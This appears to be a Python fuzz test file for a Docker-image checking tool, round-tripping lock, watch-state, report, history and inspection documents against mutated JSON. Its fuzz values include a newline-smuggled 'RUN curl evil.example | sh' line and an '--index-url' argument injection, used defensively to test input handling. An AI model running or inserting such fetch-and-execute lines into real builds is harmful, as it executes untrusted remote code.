"""Documents that travel between jobs and nights: lock, watch, night, history, inspection. Read or refused."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import date

from hypothesis import strategies as st
from inspection.test_difference import BAD, GOOD
from nightly.made import NEW, OLD, record
from nightly.test_report import FOUND
from upstream.test_lock import LOCK

from fuzz.bend import bent_json
from tf_docker_check.errors import UsageError
from tf_docker_check.image.reference import Reference
from tf_docker_check.inspection import document as inspections
from tf_docker_check.inspection import text
from tf_docker_check.inspection.difference import compare
from tf_docker_check.nightly import history, watch_state
from tf_docker_check.nightly.history import History
from tf_docker_check.nightly.night import Night
from tf_docker_check.nightly.night_report import NightReport
from tf_docker_check.nightly.previous import HISTORY, REPORT, WATCH, merge_nights
from tf_docker_check.nightly.report import render
from tf_docker_check.nightly.watch_state import WatchState
from tf_docker_check.upstream import document, lock, releases
from tf_docker_check.upstream.releases import Release
from tf_docker_check.upstream.watch import SeenTag

WHEN = "2026-01-01T00:00:00+00:00"
SEEN, PACKAGES = {"img:1": SeenTag(OLD, NEW)}, {"slim": {"numpy": "2"}}
WATCHED = WatchState(
    run=7, attempt=1, when=WHEN, tags=SEEN, good=PACKAGES, releases={"99.0.0": Release(WHEN)}
)
REPORTED = NightReport(Night(7, 1, WHEN), contents=("a",), regressions=(FOUND,), due={"a@cpu": "new"})
RECORD = history.dump(History((record(7),)))
LOADERS: dict[str, Callable[[bytes], object]] = {
    "lock": lambda data: lock.load(data, "lock"),
    WATCH: lambda data: watch_state.load(data, WATCH),
    REPORT: lambda data: document.load(data, NightReport, REPORT),
}
WHOLE = {"lock": document.dump(LOCK), WATCH: document.dump(WATCHED), REPORT: document.dump(REPORTED)}
VALUES = [
    OLD,
    "1\nRUN curl evil.example | sh",
    "--index-url=x",
    "passed",
    "failed",
    WHEN,
    "latest",
    "9" * 400,
    7,
]
INSPECTED = [json.loads(inspections.dump(each)) for each in (GOOD, BAD)]
INPUTS = st.one_of(
    *(
        st.tuples(st.just(name), bent_json([json.loads(whole)], VALUES))
        for name, whole in (*WHOLE.items(), (HISTORY, RECORD))
    ),
    st.tuples(st.just("inspection"), bent_json(INSPECTED, VALUES)),
)


def check(value: tuple[str, bytes]) -> None:
    name, data = value
    try:
        _CHECKS.get(name, _document)(name, data)
    except UsageError as error:
        assert error.what.startswith(name)
        assert len(str(error)) < 5000


def _document(name: str, data: bytes) -> None:
    loaded = LOADERS[name](data)
    assert LOADERS[name](document.dump(loaded)) == loaded
    found = merge_nights([{name: data, HISTORY: RECORD}])
    for reference in releases.awaited_images(found.watched.releases, WHEN):
        assert Reference.parse(reference).tag
    if isinstance(loaded, NightReport):
        render(loaded)


def _history(_: str, data: bytes) -> None:
    """A bad line costs itself."""
    found = history.load(RECORD + data + b"\n" + RECORD)
    assert any(each.run == 7 for each in found.records)
    assert history.load(history.dump(found)).records == found.records


def _inspection(name: str, data: bytes) -> None:
    loaded = inspections.load(data, name)
    assert inspections.load(inspections.dump(loaded).encode(), name) == loaded
    for shown in (
        text.render_inspection(loaded, date(2026, 1, 1)),
        text.render_difference(compare(GOOD, loaded)),
    ):
        assert "\x1b" not in shown
    inspections.dump(compare(loaded, BAD))


_CHECKS = {HISTORY: _history, "inspection": _inspection}
